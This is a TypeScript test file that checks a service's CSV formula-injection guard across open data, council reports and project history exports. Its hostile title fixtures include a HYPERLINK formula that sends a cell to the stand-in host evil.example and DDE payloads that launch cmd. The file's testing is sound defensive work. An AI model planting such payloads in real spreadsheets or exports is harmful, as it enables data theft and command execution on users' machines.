import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import request from 'supertest';
import { describe, expect, it } from 'vitest';
import { csvCell, csvGuard, csvUnguard } from '../../src/application/csv.js';
import { verifyProjectCsv, type ExportCsvColumn } from '../../src/audit/project-export.js';
import { asText, type TestApp } from '../support/app.js';
import { eAdrese } from '../support/passport-builders.js';
import { PEOPLE, seededSuite } from '../support/seeded.js';

/*
 * Formula injection (OWASP "CSV Injection"): a cell a spreadsheet would evaluate — one starting
 * with = + - @, a tab or a carriage return — is written with a leading ' in every CSV the service
 * writes: open data, the council report, a project's history export. The export still checks
 * offline, because its reader undoes the guard exactly.
 */

const HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
];

let app: TestApp;
const as = seededSuite({ ...PEOPLE, inese: ['inese', ['auditor'], '90009963334'] }, (a) => (app = a));

/** The cells of a CSV text, row by row. */
const rowsOf = (text: string): string[][] => {
  const rows: unknown = parse(text, { relax_column_count: true });
  return rows as string[][];
};

/** Cells a spreadsheet would evaluate as a formula (a plain number, such as -12.50, is data). */
const formulaCells = (text: string): string[] =>
  rowsOf(text)
    .flat()
    .filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));

describe('the CSV formula guard', () => {
  it('when any text is guarded and unguarded, it comes back exactly, and a guarded cell never starts a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", "'="), (s, start) => {
        const text = start + s;
        expect(csvUnguard(csvGuard(text))).toBe(text);
        const cell = rowsOf(`${csvCell(text)}\r\n`)[0]?.[0] ?? '';
        expect(cell).toBe(csvGuard(text));
        if (/^[=+@\t\r]/.test(text) || (/^-/.test(text) && !/^-?\d+(\.\d+)?$/.test(text))) expect(cell.startsWith("'")).toBe(true);
      }),
      { numRuns: 500 },
    );
    expect(csvCell(-1250)).toBe('-1250');
    expect(csvCell('-12.50')).toBe('-12.50');
  });

  it('when projects are titled like formulas, open data, the council report and the history export write them as text, and the export still verifies', async () => {
    const projects: string[] = [];
    for (const title of HOSTILE_TITLES) {
      const drafted = await as('anna')
        .post('/projects')
        .send({ title: { lv: title, en: title }, programme: eAdrese.programme, recipient: eAdrese.recipient });
      expect(drafted.status, JSON.stringify(drafted.body)).toBe(201);
      const id = drafted.body.projectId as string;
      projects.push(id);
      await as('anna').patch(`/projects/${id}/passport`).set('If-Match', drafted.headers.etag!).send(eAdrese.sections).expect(200);
      await as('anna').post(`/projects/${id}/passport/submit`).expect(200);
      await as('janis').post(`/projects/${id}/passport/verify`).send({}).expect(200);
      await as('liga').post(`/projects/${id}/passport/approve`).expect(200);
    }
    await app.service.context.projections.catchUp();

    const operations = await request(app.service.app).get('/open-data/operations.csv').expect(200);
    expect(formulaCells(operations.text)).toEqual([]);
    for (const title of HOSTILE_TITLES) expect(operations.text).toContain(`'${title.replaceAll('"', '""')}`);

    const today = new Date().toISOString().slice(0, 10);
    const council = await as('janis').get('/reports/council').query({ from: '2020-01-01', to: today, format: 'csv', detail: 'project' });
    expect(council.status, council.text).toBe(200);
    expect(formulaCells(council.text)).toEqual([]);

    const exported = await as('inese')
      .get(`/history/projects/${projects[0]}/export`)
      .query({ format: 'csv' })
      .buffer(true)
      .parse(asText)
      .expect(200);
    const text = exported.body as string;
    expect(formulaCells(text)).toEqual([]);
    const rows = parse<Record<ExportCsvColumn, string>>(text, { columns: true });
    expect(await verifyProjectCsv(Readable.from(rows))).toMatchObject({ ok: true, firstProblem: null });
  });
});
